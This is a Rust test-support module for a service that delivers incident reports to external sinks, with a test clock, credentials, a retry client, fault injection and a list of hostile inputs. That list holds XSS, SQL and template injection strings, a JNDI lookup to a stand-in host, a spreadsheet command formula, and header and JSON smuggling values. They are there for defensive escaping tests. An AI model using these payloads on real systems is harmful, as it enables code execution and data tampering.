//! What tests of several sinks stand on: a clock, a client, a letter, and hostile data.

use std::collections::BTreeMap;
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use jiff::{SignedDuration, Timestamp};
use quell_deliver::outbox::{self, Act, Found, Outcome, Remote, Row, State, Step};
use quell_deliver::text::Hosts;
use quell_deliver::{Attachment, Block, Body, Key, Label, Letter, Line, SafeLink, Span};
use quell_http::{Client, Egress, Policy, Rate, Retry};
use quell_model::{Clock, Severity, TenantId};
use secrecy::SecretString;

use crate::{Credential, Credentials, Kind, Plan, Sink, SinkError, Wanted};

/// A clock that a test moves.
#[derive(Debug, Clone)]
pub(crate) struct Hands(Arc<Mutex<Timestamp>>);

impl Hands {
    pub(crate) fn new() -> Self {
        Self(Arc::new(Mutex::new("2026-03-01T10:00:00Z".parse().unwrap())))
    }

    pub(crate) fn pass(&self, seconds: i64) {
        *self.0.lock().unwrap() += SignedDuration::from_secs(seconds);
    }
}

impl Clock for Hands {
    fn now(&self) -> Timestamp {
        *self.0.lock().unwrap()
    }
}

/// A login that a test changes.
#[derive(Debug, Clone)]
pub(crate) struct Keys(pub(crate) Arc<Mutex<(String, String)>>);

impl Credentials for Keys {
    fn read(&self) -> Pin<Box<dyn Future<Output = Result<Credential, SinkError>> + Send + '_>> {
        let (id, secret) = self.0.lock().unwrap().clone();
        let (id, secret) = (SecretString::from(id), SecretString::from(secret));
        Box::pin(async move { Ok(Credential { id, secret }) })
    }
}

pub(crate) fn keys(id: &str, secret: &str) -> Keys {
    Keys(Arc::new(Mutex::new((id.to_owned(), secret.to_owned()))))
}

/// A client that reaches loopback, and tries reads again at once.
pub(crate) fn client(hands: &Hands) -> Client {
    let policy = Policy {
        egress: Egress::new(vec!["http://127.0.0.1".parse().unwrap()]),
        retry: Retry {
            attempts: 2,
            first_wait: Duration::from_millis(1),
            longest_wait: Duration::from_secs(1),
            total: Duration::from_secs(20),
        },
        rate: Rate::new(100_000, 1, 100_000),
        ..Policy::default()
    };
    Client::new(policy, Arc::new(hands.clone())).unwrap()
}

/// A sink of a kind.
pub(crate) fn sink(
    kind: &Kind,
    (url, project): (&str, Option<&str>),
    options: &[(&str, &str)],
    keys: &Keys,
    hands: &Hands,
) -> Result<Box<dyn Sink>, SinkError> {
    let options: BTreeMap<String, String> =
        options.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    (kind.connect)(Plan {
        name: kind.id.to_owned(),
        url: Some(url.to_owned()),
        project: project.map(str::to_owned),
        options,
        credentials: Arc::new(keys.clone()),
        client: client(hands),
        clock: Arc::new(hands.clone()),
        hosts: hosts(),
    })
}

pub(crate) fn hosts() -> Hosts {
    Hosts::default().with("https://quell.example/")
}

pub(crate) fn key(subject: &str) -> Key {
    Key::new(&TenantId::default(), "sink", subject, 0)
}

fn own_link() -> SafeLink {
    SafeLink::new("https://quell.example/incidents/a", &hosts()).unwrap()
}

/// A letter with a text in each place where data can stand.
pub(crate) fn letter_of(data: &str) -> Letter {
    let line = |words: &str| Line::own(words).and_data(data).and_own(" and ").and_code(data);
    Letter {
        key: key("fix:a"),
        title: Line::own("Public bucket ").and_code(data).and_own(" of ").and_data(data),
        body: Body::paragraph(line("It says "))
            .and(Block::Heading(line("Why ")))
            .and(Block::List(vec![line("one "), Line::data(data)]))
            .and(Block::Steps(vec![line("first "), line("then ")]))
            .and(Block::Facts(vec![("Asset".to_owned(), Line::default().and_code(data))]))
            .and(Block::Code { language: "diff".to_owned(), text: data.into() })
            .and(Block::Paragraph(
                Line::own("More at ").and(Span::Link { words: "Quell".to_owned(), to: own_link() }),
            )),
        severity: Severity::High,
        due: Some("2026-03-08T10:00:00Z".parse().unwrap()),
        labels: vec![Label::new("quell")],
        files: vec![Attachment {
            name: "evidence.json".to_owned(),
            media_type: "application/json".to_owned(),
            text: data.into(),
        }],
        page: Some(own_link()),
        owner: Some(data.into()),
        change: None,
        asks: None,
    }
}

pub(crate) fn letter() -> Letter {
    letter_of("logs-prod")
}

pub(crate) fn open(letter: Letter) -> Act {
    Act::Open { letter: Box::new(letter) }
}

pub(crate) fn words(text: &str) -> Body {
    Body::paragraph(Line::own(text))
}

/// An act with its key.
pub(crate) fn wanted<'a>(key: &'a Key, act: &'a Act, remote: Option<&'a Remote>) -> Wanted<'a> {
    Wanted { key, act, remote }
}

/// A row that lives until nothing is left to do, as it does in the server. After each call `crashes`
/// says whether the process ended before what came of it was written.
pub(crate) async fn lived(
    sink: &dyn Sink,
    wanted: Wanted<'_>,
    hands: &Hands,
    crashes: &mut dyn FnMut() -> bool,
) -> Row {
    let (act, now) = (wanted.act.kind(), hands.now());
    let mut row = Row {
        id: 1,
        sink: "sink".to_owned(),
        subject: "fix:a".to_owned(),
        key: wanted.key.clone(),
        act,
        state: State::Waiting { until: now },
        attempts: 0,
        created: now,
        said: None,
        remote: wanted.remote.cloned(),
        replays: None,
        tries: Vec::new(),
    };
    for _ in 0..500 {
        let now = hands.now();
        let on_doubt = sink.on_doubt(act);
        match outbox::next(&row, now) {
            Step::Nothing => break,
            Step::Rest(until) => *hands.0.lock().unwrap() = until,
            Step::Send => {
                row = outbox::begun(row, now);
                let outcome = match sink.act(&wanted).await {
                    Ok(made) => Outcome::Done(made),
                    Err(error) => error.outcome(),
                };
                row = match crashes() {
                    true => outbox::recovered(row, on_doubt, now),
                    false => outbox::ended(row, on_doubt, outcome, now),
                };
            }
            Step::Look => {
                let found = match sink.find(&wanted).await {
                    Ok(Some(remote)) => Found::There(remote),
                    Ok(None) => Found::Nothing,
                    Err(error) => Found::Unknown(error.to_string()),
                };
                row = outbox::looked(row, on_doubt, found, now);
            }
        }
    }
    row
}

/// Numbers that look random and are the same for a seed.
pub(crate) fn numbers(seed: u64) -> impl FnMut(u64) -> u64 {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    move |below| {
        state ^= state >> 12;
        state ^= state << 25;
        state ^= state >> 27;
        (state.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) % below
    }
}

/// One of the things that go wrong with an answer.
fn fault(number: u64) -> quell_testkit::double::Fault {
    use quell_testkit::double::Fault;
    use quell_testkit::net::Answer;
    match number % 6 {
        0 => Fault::Lost,
        1 => Fault::Cut(usize::try_from(number % 60).unwrap()),
        2 => Fault::Answer(Answer::new(500, "")),
        3 => Fault::Answer(Answer::new(503, "busy")),
        4 => Fault::Answer(Answer::new(429, "too many")),
        _ => Fault::Answer(Answer::new(200, "<html>asleep</html>")),
    }
}

/// Has up to three things go wrong with requests whose path contains a text, each up to three times.
pub(crate) fn trouble(
    script: &quell_testkit::double::Script,
    path: &str,
    random: &mut impl FnMut(u64) -> u64,
) {
    for _ in 0..random(4) {
        script.add(path, u32::try_from(1 + random(3)).unwrap(), fault(random(1_000)));
    }
}

/// Data that would like to be more than data.
pub(crate) fn payloads() -> Vec<String> {
    let mut all: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    all.push("https://evil.example/".repeat(400));
    all.push("[code]<b>x</b>[/code]".repeat(400));
    all.push("\\".repeat(5_000));
    all.push("\u{202e}".repeat(5_000));
    all.push("😀".repeat(5_000));
    all.push(format!("{}{}", "[".repeat(3_000), "code]<b>"));
    all
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"https://evil.example\">safe</a>",
    "[code]<a href='https://evil.example'>x</a>[/code]",
    "[CODE]<script>1</script>[/CODE]",
    "[ code ]<b>x</b>[ / code ]",
    "[[code]code]<b>x</b>[/[/code]code]",
    "[cOdE]\n<h1>x</h1>\n[/cOdE]",
    "[\tcode]<i>x</i>[/code]",
    "[/code]<b>out</b>[code]",
    "[code",
    "code]<b>x</b>",
    "https://evil.example/login",
    "HTTPS://EVIL.EXAMPLE/",
    "http://127.0.0.1/latest",
    "ftp://evil.example/x",
    "//evil.example/x",
    "www.evil.example",
    "WWW.evil.example",
    "wwwwww.evil.example",
    "javascript:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "data:text/html,<script>1</script>",
    "mailto:a@evil.example",
    "hxxps://evil.example",
    "https:\u{200b}//evil.example",
    "https\u{202e}://evil.example",
    "[text](https://evil.example)",
    "![x](https://evil.example/p.png)",
    "<https://evil.example|Quell>",
    "[Quell|https://evil.example]",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "{{constructor.constructor('x')()}}",
    "{% include 'x' %}",
    "@everyone @here <!channel> <@U123>",
    "@ann please approve",
    "/close /assign @ann",
    "/approve",
    "fixes #1, closes #2",
    "x\r\nSubject: evil",
    "x\nwork_notes=evil",
    "x\r\n\r\n[code]<b>x</b>[/code]",
    "active=true^ORstate=1",
    "^NQactive=true",
    "javascript:gs.getUserID()",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\"; drop table x; --",
    "' or '1'='1",
    "\\\",\"severity\":\"info",
    "\"},\"event_action\":\"resolve\",\"x\":{\"",
    "}{\"event\":\"forged\",\"sourcetype\":\"x\"}",
    "\u{202e}gnp.exe",
    "\u{2066}a\u{2069}",
    "a\u{200b}b\u{200d}c\u{feff}",
    "\u{e0041}\u{e0042}",
    "\u{0}\u{1b}[31mred\u{7}",
    "\u{85}\u{2028}\u{2029}",
    "tab\tand\u{b}more\u{c}",
    "\\u{202e} not an escape",
    "\\",
    "\\\\",
    "(opened quell-aaaaaaaaaaaaaaaaaaaaaaaaaa)",
    "quell-aaaaaaaaaaaaaaaaaaaaaaaaaa",
    "漢字 größe 😀",
    "",
    " ",
    "\n",
    "null",
    "{}",
    "[]",
    "<!--",
    "<![CDATA[x]]>",
    "<svg/onload=alert(1)>",
    "&lt;b&gt; &#x3c;b&#x3e; &amp;",
    "%3Cscript%3E",
    "http://evil.example@quell.example/",
    "https://quell.example.evil.example/",
    "https://quell.example/incidents/a",
];

#[test]
fn there_are_enough_payloads() {
    assert!(payloads().len() >= 80);
}
